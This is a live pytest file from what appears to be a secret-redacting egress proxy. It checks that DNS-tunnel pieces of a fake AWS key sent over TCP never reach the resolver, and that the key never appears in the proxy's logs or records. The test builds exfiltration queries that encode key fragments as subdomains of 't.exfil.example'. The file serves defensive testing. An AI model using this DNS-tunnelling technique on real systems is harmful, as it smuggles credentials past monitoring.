"""Live (attack31, root): a DNS tunnel's pieces sent over TCP and UDP in turn, through attack26's `tun` listener with
a real mitmdump and the bundle. Measured: a query over TCP to port 53 is read as the start of an HTTP request (the
log: "Client closed connection before completing request headers: <103 bytes withheld>"), its bytes are never
forwarded and no answer comes (the client gives up): the pieces sent over TCP never reach the resolver, those over
UDP are joined as before. Pinned here, so that a mitmproxy that forwards DNS over TCP shows up (its queries then
go through the same `dns_request` hook, keyed by the client's address). Checked: what the sink (TCP and UDP on one
port) received, the client's answers, and every byte the proxy wrote (log, index, .mitm)."""

from __future__ import annotations

import json
import socket
import struct
import threading
import time
from pathlib import Path

import pytest

from tests import fakes
from tests.live import harness
from tests.live.tun import dns_query as query
from tests.live.tun import received, start_tun_proxy

pytestmark = [pytest.mark.live, pytest.mark.root]

AKID = fakes.aws_key_id(3136)
DEVICE = "egtun31t"
NETWORK = "198.18.232.0/24"
RESOLVER = ("198.18.232.6", 53)


class TcpSink:
    """A TCP listener that keeps every byte each connection sent."""

    def __init__(self, port: int) -> None:
        self.server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.server.bind(("127.0.0.1", port))
        self.server.listen()
        self.got: list[bytes] = []
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                conn, _ = self.server.accept()
            except OSError:
                return
            threading.Thread(target=self._read, args=(conn,), daemon=True).start()

    def _read(self, conn: socket.socket) -> None:
        with conn:
            while data := conn.recv(65536):
                self.got.append(data)


def tcp_query(name: str, ident: int) -> bytes | None:
    """The answer to one query over TCP (None when the connection closed first)."""
    message = query(name, ident)
    with socket.create_connection(RESOLVER, timeout=5) as conn:
        conn.sendall(struct.pack(">H", len(message)) + message)
        try:
            head = conn.recv(2)
            return conn.recv(struct.unpack(">H", head)[0]) if len(head) == 2 else None
        except TimeoutError:
            return None


def test_pieces_over_tcp_never_reach_the_resolver(tmp_path, upstream):
    udp_sink = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp_sink.bind(("127.0.0.1", 0))
    port = udp_sink.getsockname()[1]
    tcp_sink = TcpSink(port)
    record = tmp_path / "rec"
    proxy = start_tun_proxy(tmp_path, upstream, DEVICE, NETWORK, port, record)
    try:
        agent = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        pieces = [AKID.lower()[i:i + 4] for i in range(0, 20, 4)]
        answers = []
        for i, piece in enumerate(pieces):
            name = f"{piece}.t.exfil.example"
            if i % 2:
                agent.sendto(query(name, 0x3300 + i), RESOLVER)
                time.sleep(0.1)  # in order, as a tunnel sends them (not a timing assertion)
            else:
                answers.append(tcp_query(name, 0x3300 + i))
        got_udp = received(udp_sink)
        assert tcp_sink.got == [] and answers == [None] * len(answers)  # over TCP: nothing forwarded, no answer
        assert all(any(p.encode() in d for d in got_udp) for p in pieces[1::2])  # over UDP: ordinary names went on
        time.sleep(0.5)
        assert proxy.stop() == 0
        written = harness.written(record)
        assert "bytes withheld" in proxy.log
        for spelling in (AKID, AKID.lower(), *pieces):
            assert spelling.encode() not in written and spelling not in proxy.log
        events = [json.loads(line) for p in Path(record).rglob("*.jsonl") for line in p.read_text().splitlines()]
        assert [e["count"] for e in events if e.get("event") == "dns_query"] == [1, 1]  # the UDP pair's two queries
    finally:
        proxy.stop()
        tcp_sink.server.close()
